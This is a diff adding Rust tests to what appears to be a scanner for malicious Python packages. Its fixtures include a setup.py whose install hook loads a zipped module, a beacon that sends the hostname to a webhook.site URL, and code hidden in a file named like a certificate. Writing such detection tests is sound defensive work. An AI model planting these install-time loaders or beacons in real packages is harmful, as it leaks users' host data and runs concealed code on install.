@@ -1543,3 +1543,72 @@ fn flows_sdk_credentials_put_into_a_request_body_are_malicious() {
     let (v, why) = verdict_of(&[("demo-1.0/demo/client.py", signer)]);
     assert_eq!(v, crate::Verdict::Clean, "{why:?}");
 }
+
+fn with_nested(files: &[(&str, &str, u8)]) -> Artifact {
+    let mut a = sdist(&[]);
+    a.members = files
+        .iter()
+        .map(|(p, d, depth)| Member {
+            path: (*p).to_owned(),
+            data: d.as_bytes().to_vec(),
+            depth: *depth,
+        })
+        .collect();
+    a
+}
+
+#[test]
+fn flows_an_archive_setup_py_loads_runs_at_install_and_a_disguised_one_is_hidden_code() {
+    let loader = "import zipimport\nfrom setuptools import setup\nfrom setuptools.command.install import install\ndef test():\n    z = zipimport.zipimporter('my.zip')\n    m = z.load_module('my')\n    m.hello()\nclass I(install):\n    def run(self):\n        test()\n        install.run(self)\nsetup(name='demo', cmdclass={'install': I})\n";
+    let beacon = "import requests, socket\ndef hello():\n    requests.get('https://webhook.site/0f8d2c1e-1111-2222-3333-444455556666', params={'h': socket.gethostname()})\n";
+    let a = with_nested(&[
+        ("demo-1.0/setup.py", loader, 0),
+        ("demo-1.0/my.zip", "", 0),
+        ("demo-1.0/my.zip!/my/__init__.py", beacon, 1),
+    ]);
+    let s = crate::scan(&a);
+    assert_eq!(s.verdict, crate::Verdict::Malicious, "{:?}", s.reasons);
+    // The same archive, shipped but not loaded by setup.py, is vendored data.
+    let a = with_nested(&[
+        ("demo-1.0/setup.py", HONEST_SETUP, 0),
+        ("demo-1.0/my.zip", "", 0),
+        ("demo-1.0/my.zip!/my/__init__.py", beacon, 1),
+    ]);
+    let s = crate::scan(&a);
+    assert!(s.verdict < crate::Verdict::Malicious, "{:?}", s.reasons);
+
+    let route = "import os, zipimport\ndef get(path):\n    cert = zipimport.zipimporter(f'{os.path.dirname(__file__)}/server.crt').load_module('SSLv2')\n    return cert.route(path)\n";
+    let a = with_nested(&[
+        ("demo-1.0/demo/routes.py", route, 0),
+        (
+            "demo-1.0/demo/server.crt!/SSLv2.py",
+            "def route(p):\n    return p\n",
+            1,
+        ),
+    ]);
+    let ev = run(&a);
+    assert!(
+        has(&ev, "dynamic-exec", Behaviour::DecodeExec),
+        "{}",
+        dump(&ev)
+    );
+    // An honest zip application loads a `.pyz`.
+    let a = with_nested(&[
+        (
+            "demo-1.0/demo/app.py",
+            &route.replace("server.crt", "tools.pyz"),
+            0,
+        ),
+        (
+            "demo-1.0/demo/tools.pyz!/SSLv2.py",
+            "def route(p):\n    return p\n",
+            1,
+        ),
+    ]);
+    let ev = run(&a);
+    assert!(
+        !has(&ev, "dynamic-exec", Behaviour::DecodeExec),
+        "{}",
+        dump(&ev)
+    );
+}
